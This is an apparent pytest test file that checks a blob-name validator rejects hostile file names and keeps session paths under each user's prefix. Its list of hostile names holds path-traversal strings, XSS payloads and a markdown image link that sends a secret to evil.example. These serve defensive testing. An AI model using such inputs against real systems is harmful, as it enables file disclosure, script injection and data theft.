"""Blob names are rejected, never repaired, and paths only come from the resolver."""

from __future__ import annotations

import pytest

from orc.errors import InvalidName
from orc.names import BlobPaths, normalize_blob_names, validate_blob_name
from orc.principal import Principal

HOSTILE_NAMES = [
    "../secret.pdf",
    "a/../../b.pdf",
    "./doc.pdf",
    "a/./b.pdf",
    "/etc/passwd",
    "C:\\windows\\win.ini",
    "a\\b.pdf",
    "%2e%2e%2fsecret.pdf",
    "%2E%2E/x",
    "．．／secret.pdf",
    "doc／x.pdf",
    "doc\x00.pdf",
    "doc\n.pdf",
    "doc\x1b.pdf",
    "doc\u200b.pdf",
    "https://example.com/doc.pdf",
    "file:///etc/passwd",
    "//server/share/doc.pdf",
    "a//b.pdf",
    "dir/",
    "",
    "x" * 1025,
    "é" * 513,
    " leading.pdf/x",
    "<img src=x onerror=alert(1)> lease.txt",
    "notes <script>alert(1)</script>.md",
    "[pay here](javascript:alert(3)) notes.md",
    "![x](https://evil.example/?q=SECRET).md",
]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_hostile_blob_names_are_rejected(name: str) -> None:
    with pytest.raises(InvalidName):
        validate_blob_name(name)


@pytest.mark.parametrize(
    "name",
    [
        "doc1.pdf",
        "Report 2026 (final).docx",
        "folder/notes.md",
        "données.txt",
        "/".join(["a" * 254] * 4) + "/b.md",
        "R&D notes [draft] (v2).md",
        "1 < 2 but 3 > 2.txt",
    ],
)
def test_ordinary_file_names_are_accepted_unchanged(name: str) -> None:
    assert validate_blob_name(name) == name


def test_normalizing_strips_and_drops_duplicates_keeping_the_first_order() -> None:
    assert normalize_blob_names([" b.pdf", "a.pdf", "b.pdf ", "A.pdf"]) == ["b.pdf", "a.pdf", "A.pdf"]


def test_session_paths_sit_under_the_principals_prefix() -> None:
    assert BlobPaths.session_blob("org", "user", "conv-1", "x/doc.pdf") == "org/user/conv-1/x/doc.pdf"


@pytest.mark.parametrize("conversation", ["..", "a/b", "", "a b", "%2e"])
def test_session_paths_refuse_unsafe_conversation_ids(conversation: str) -> None:
    with pytest.raises(InvalidName):
        BlobPaths.session_prefix("org", "user", conversation)


def test_a_user_cannot_be_named_like_the_contexts_folder() -> None:
    with pytest.raises(ValueError, match="reserved"):
        Principal(organization="org", user="contexts")
